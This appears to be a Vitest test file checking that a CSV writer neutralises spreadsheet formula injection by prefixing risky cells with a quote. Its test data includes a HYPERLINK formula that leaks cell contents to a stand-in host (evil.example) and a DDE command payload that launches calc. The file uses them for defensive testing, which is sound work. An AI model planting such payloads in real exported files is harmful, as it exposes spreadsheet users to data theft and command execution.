import { describe, expect, it } from 'vitest';
import { csvField, csvLine } from './write';

describe('CSV cells a spreadsheet would run', () => {
  it.each([
    ['=1+2', "'=1+2"],
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ['+cmd|\' /C calc\'!A0', "'+cmd|' /C calc'!A0"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1', "'\t=1"],
    ['\r=1', `"'\r=1"`],
    ['+52 55 1234 5678', "'+52 55 1234 5678"],
    ['-', "'-"],
  ])('%j is written as text', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it.each([
    ['+5215512345678', '+5215512345678'],
    ['-12.5', '-12.5'],
    ['42', '42'],
    ['a=b', 'a=b'],
    ['Ana', 'Ana'],
    ['', ''],
    ['x, y', '"x, y"'],
  ])('%j is left as it is', (value, written) => {
    expect(csvField(value)).toBe(written);
  });

  it('escapes every cell of a line, numbers and nulls included', () => {
    expect(csvLine([1, null, '=A1', '+5215512345678', '@x'])).toBe("1,,'=A1,+5215512345678,'@x\r\n");
  });
});
